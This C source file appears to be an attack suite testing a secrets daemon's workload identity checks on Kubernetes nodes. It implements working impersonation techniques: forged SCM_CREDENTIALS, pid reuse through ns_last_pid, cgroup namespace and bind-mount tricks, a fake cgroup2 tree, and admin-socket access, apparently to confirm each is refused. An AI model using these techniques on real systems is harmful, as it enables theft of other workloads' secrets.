/* SPDX-License-Identifier: BSD-2-Clause */
/* Being taken for the victim when connect() is called. */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "client.h"
#include "victim.h"

static int ask(const struct attack_context *context)
{
    int fd = client_connect(WORLD_SOCKET);

    (void)context;
    if (fd < 0)
        return errno = -fd, attack_errno("connect");
    return attack_read_value(fd);
}

/* Make the cgroups of PATH below BASE and join the last. */
static bool join_new(const char *base, const char *path)
{
    char at[PATH_MAX];

    for (const char *slash = path + 1;; slash++) {
        slash = strchrnul(slash, '/');
        snprintf(at, sizeof at, "%s%.*s", base, (int)(slash - path), path);
        if (mkdir(at, 0755) < 0 && errno != EEXIST)
            return false;
        if (!*slash)
            return world_join(at);
    }
}

static int nested(const struct attack_context *context)
{
    if (!join_new(context->place, WORLD_POD "00000000000a/" WORLD_HEX "a1"))
        return attack_errno("cgroup");
    return ask(context);
}

static int enter_namespaces(int which)
{
    if (unshare(which) == 0 || unshare(which | CLONE_NEWUSER) == 0)
        return 0;
    return attack_errno("unshare");
}

/* Seen from inside, the cgroup is the root. */
static int namespaced(const struct attack_context *context)
{
    int word = enter_namespaces(CLONE_NEWCGROUP);

    if (word)
        return word;
    return join_new(context->place, "/kubepods") ? ask(context) : attack_errno("cgroup");
}

static int own_mounts(void)
{
    int word = enter_namespaces(CLONE_NEWNS);

    if (word)
        return word;
    return mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ? attack_errno("private") : 0;
}

/* The victim's directory where its own is: a bind mount in its own namespace. */
static int bound(const struct attack_context *context)
{
    int word = own_mounts();

    if (word)
        return word;
    if (mount(WORLD_VICTIM, context->place, NULL, MS_BIND, NULL) < 0)
        return attack_errno("mount");
    return ask(context);
}

/* Another tree where cgroup2 was, so that mountinfo and paths say what it likes. */
static int faked(const struct attack_context *context)
{
    int word = own_mounts();

    if (word)
        return word;
    if (mount("cgroup2", WORLD_CGROUPS, "tmpfs", 0, NULL) < 0)
        return attack_errno("mount");
    return ask(context);
}

/* Into the victim's cgroup: whoever can write there is the node's root. */
static int joined(const struct attack_context *context)
{
    return world_join(WORLD_VICTIM) ? ask(context) : attack_errno("cgroup.procs");
}

/* A request that says by SCM_CREDENTIALS that the victim sent it. */
static int forged(const struct attack_context *context)
{
    static const char request[] = "GET /v1/value HTTP/1.1\r\nHost: vsecm\r\n\r\n";
    _Alignas(struct cmsghdr) char control[CMSG_SPACE(sizeof(struct ucred))] = {0};
    struct ucred who = {.pid = context->plain->pid, .uid = getuid(), .gid = getgid()};
    struct iovec data = {(char *)(uintptr_t)request, 9};
    struct msghdr message = {.msg_iov = &data,
                             .msg_iovlen = 1,
                             .msg_control = control,
                             .msg_controllen = sizeof control};
    struct cmsghdr *c = CMSG_FIRSTHDR(&message);
    char value[1024];
    int fd = client_connect(WORLD_SOCKET);

    if (fd < 0)
        return errno = -fd, attack_errno("connect");
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_CREDENTIALS;
    c->cmsg_len = CMSG_LEN(sizeof who);
    memcpy(CMSG_DATA(c), &who, sizeof who);
    if (sendmsg(fd, &message, MSG_NOSIGNAL) != 9)
        return attack_errno("sendmsg");
    int status = client_ask(fd, request + 9, value, sizeof value, NULL);
    close(fd);
    if (status == 200 && !strcmp(value, WORLD_VALUE))
        return 0;
    return status == 200 || status == 403 ? attack_refused("got its own value")
                                          : attack_failed("status %d", status);
}

/* A child that connects and hands the connection over with its last breath. */
static pid_t connect_and_die(int pass)
{
    pid_t pid = fork();

    if (pid == 0) {
        int fd = client_connect(WORLD_SOCKET);
        if (fd >= 0)
            client_pass(pass, 'k', fd);
        _exit(fd < 0);
    }
    waitpid(pid, NULL, 0);
    return pid;
}

static bool set_next_pid(pid_t pid)
{
    char text[16];
    int fd = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
    int length = snprintf(text, sizeof text, "%d", pid - 1);

    if (fd < 0)
        return false;
    bool well = write(fd, text, (size_t)length) == length;
    close(fd);
    return well;
}

static pid_t spawned_by(const struct victim *victim)
{
    pid_t pid = 0;
    int fd = victim_ask(victim, VICTIM_SPAWN, -1);

    if (fd < 0)
        return 0;
    client_take(fd, 0, NULL);
    if (recv(fd, &pid, sizeof pid, MSG_WAITALL) != (ssize_t)sizeof pid)
        pid = 0;
    close(fd);
    return pid;
}

/* Its pid is the victim's by the time that the daemon looks: were a pid looked up, it would show.
 */
static int reused(const struct attack_context *context)
{
    int pair[2], hits = 0;

    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
        return attack_errno("socketpair");
    for (int i = 0; i < 15; i++) {
        pid_t pid = connect_and_die(pair[0]);
        int fd = client_take(pair[1], 0, NULL);
        if (fd < 0)
            return errno = -fd, attack_errno("take");
        if (!set_next_pid(pid))
            return attack_errno("ns_last_pid");
        hits += spawned_by(context->plain) == pid;
        int word = attack_read_value(fd);
        if (word == 0 || i == 14)
            return word && !hits ? attack_failed("no pid was used again") : word;
    }
    return attack_failed("never");
}

/* Clients that are gone before their request is looked at, in turns with the victim's. */
static int short_lived(const struct attack_context *context)
{
    int pair[2], word = 0;

    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
        return attack_errno("socketpair");
    for (int i = 0; i < 20; i++) {
        connect_and_die(pair[0]);
        spawned_by(context->plain);
        int fd = client_take(pair[1], 0, NULL);
        if (fd < 0)
            return errno = -fd, attack_errno("take");
        word = attack_read_value(fd);
        if (word == 0)
            return 0;
    }
    return word;
}

/* The private socket, as uid 0 of a container: it would be the node's administrator. */
static int administer(const struct attack_context *context)
{
    char body[4096];
    int fd = client_connect(WORLD_ADMIN);

    (void)context;
    if (fd < 0)
        return errno = -fd, attack_errno("connect");
    int status = client_get(fd, "/v1/admin/value?namespace=app&workload=victim", body, sizeof body);
    close(fd);
    if (status == 200)
        return 0;
    return status == 403 ? attack_refused("403") : attack_failed("status %d: %s", status, body);
}

static const struct attack table[] = {
    {"connect-stranger",
     "a secret, from a cgroup of no pod",
     ask,
     {US, US},
     {OPEN, OPEN},
     CONTROL_OWNER,
     FROM_STRANGER,
     NULL},
    {"connect-other-pod",
     "the victim's secret, from another pod",
     ask,
     {US, US},
     {OPEN, OPEN},
     CONTROL_OWNER,
     0,
     NULL},
    {"nested-cgroup-name",
     "the same, from a cgroup that is named like the victim's",
     nested,
     {US, US},
     {OTHER, OPEN},
     CONTROL_OWNER,
     0,
     NULL},
    {"cgroup-namespace",
     "the same, from a cgroup namespace",
     namespaced,
     {US, US},
     {OTHER, OPEN},
     CONTROL_OWNER,
     0,
     NULL},
    {"cgroup-bind-mount",
     "the same, the victim's cgroup mounted over its own",
     bound,
     {US, US},
     {OPEN, OPEN},
     CONTROL_OWNER,
     0,
     NULL},
    {"cgroup-fake-tree",
     "the same, a tmpfs where cgroup2 was",
     faked,
     {US, US},
     {OPEN, OPEN},
     CONTROL_OWNER,
     0,
     NULL},
    {"credentials-forged",
     "the same, with SCM_CREDENTIALS of the victim's pid",
     forged,
     {OTHER, US},
     {OTHER, OPEN},
     CONTROL_OWNER,
     0,
     NULL},
    {"pid-reuse",
     "the same, its pid given to a process of the victim",
     reused,
     {OTHER, US},
     {OTHER, OPEN},
     CONTROL_OWNER,
     0,
     NULL},
    {"short-lived-client",
     "the same, by processes that end at once",
     short_lived,
     {US, US},
     {OPEN, OPEN},
     CONTROL_OWNER,
     0,
     NULL},
    {"join-victims-cgroup",
     "the same, having moved itself into the victim's cgroup",
     joined,
     {OTHER, OPEN},
     {OTHER, OPEN},
     CONTROL_OFF,
     0,
     NULL},
    {"admin-socket",
     "an administrator's rights",
     administer,
     {OTHER, US},
     {OTHER, US},
     CONTROL_OWNER,
     0,
     NULL},
};

const struct attack_table attack_connect = {table, sizeof table / sizeof *table};
